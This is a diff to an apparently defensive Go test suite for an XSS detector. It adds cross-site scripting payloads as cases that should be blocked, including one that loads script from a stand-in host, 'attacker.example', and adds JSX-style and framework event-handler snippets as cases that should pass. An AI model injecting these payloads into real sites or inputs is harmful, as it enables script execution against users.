@@ -59,6 +59,14 @@ var xssQualityAttacks = []struct{ where, in string }{
 	{"query:q", "<span datasrc=#island datafld=body dataformatas=html></span>"},
 	{"query:q", "¼script¾alert(1)¼/script¾"},
 	{"query:q", "%BCscript%BEalert(1)%BC/script%BE"},
+	// script elements
+	{"query:q", "<script>alert(document.domain)</script>"},
+	{"query:q", "<script src=//attacker.example/x.js></script>"},
+	{"query:q", "</script><img src=x onerror=alert(1)>"},
+	{"query:q", "<script>x=1;confirm(x)//"},
+	// JSX-style braces that still run script in HTML
+	{"query:q", "<button onclick={alert(1)}>x</button>"},
+	{"query:q", "<x onmouseover={ top.alert(1) }>"},
 	// JavaScript gadgets and probes
 	{"query:q", "window['al'+'ert'](1)"},
 	{"query:q", "self['eval']('1+1')"},
@@ -108,6 +116,9 @@ var xssQualityBenign = []struct{ where, in string }{
 	{"query:q", "price = items['total'] * 1.2"},
 	{"query:q", "awk '{print $1}' file.txt"},
 	{"query:q", "x = prompt; y = confirm"},
+	{"query:q", "Close the element with </script> at the end of the block."},
+	{"query:q", "<button @click=\"count++\">Add</button>"},
+	{"query:q", "<button on:click={increment}>Count</button>"},
 	{"query:q", "mode=prompt; retries=3"},
 }
 
@@ -120,6 +131,10 @@ var xssRuleBenign = []struct{ where, in string }{
 	{"query:q", "<base href=\"/\">"},
 	{"query:q", "const onError = (err) => { console.error(err) }"},
 	{"query:q", "<p style=\"font-family:'\\201c'\">quote</p>"},
+	{"query:q", "The <script> tag is used to embed JavaScript."},
+	{"query:q", "<button onClick={handleClick}>Click me</button>"},
+	{"query:q", "<button onClick={() => setCount(count + 1)}>+</button>"},
+	{"query:q", "<input onChange={(e) => setName(e.target.value)} value={name} />"},
 	{"query:q", "<i style=\"content:'\\f101'\"></i>"},
 	{"query:q", "<link rel=\"stylesheet\" href=\"/css/site.css\">"},
 	{"query:q", "<td style=\"text-align:center\">x</td>"},
